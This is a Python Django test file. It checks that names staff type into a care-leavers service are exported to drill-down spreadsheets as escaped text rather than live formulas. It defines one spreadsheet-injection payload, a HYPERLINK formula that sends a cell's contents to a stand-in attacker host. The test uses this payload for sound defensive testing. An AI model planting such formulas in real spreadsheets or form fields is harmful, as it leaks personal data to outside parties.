"""The dashboard and drill-down spreadsheets: what staff typed is never a live formula."""

from __future__ import annotations

import io

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from careleavers.accounts.roles import Role
from careleavers.core.tests.file_jobs import made_file
from careleavers.core.tests.pages import form_data
from careleavers.insight.tests.factories import ON_NOON

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://attacker.example/?d="&B2,"Amy")'


def test_a_name_an_adviser_typed_as_a_formula_is_text_in_the_drill_down_spreadsheet(
    known, make_user
):
    with time_machine.travel(ON_NOON, tick=False):
        adviser = Client()
        adviser.force_login(known.pa1)
        amy = known.amy
        url = reverse("people:edit_details", kwargs={"pk": amy.pk, "section": "identity"})
        saved = adviser.post(url, form_data(adviser.get(url), preferred_name=LINK))
        assert saved.status_code == 302

        head = Client()
        head.force_login(make_user(Role.HEAD_OF_SERVICE))
        response = made_file(
            head, reverse("insight:members_xlsx", args=["recent_contact"]) + "?scope=service"
        )

    sheet = load_workbook(io.BytesIO(response.body))["Rows"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert f"'{LINK} Known" in [cell.value for cell in cells]
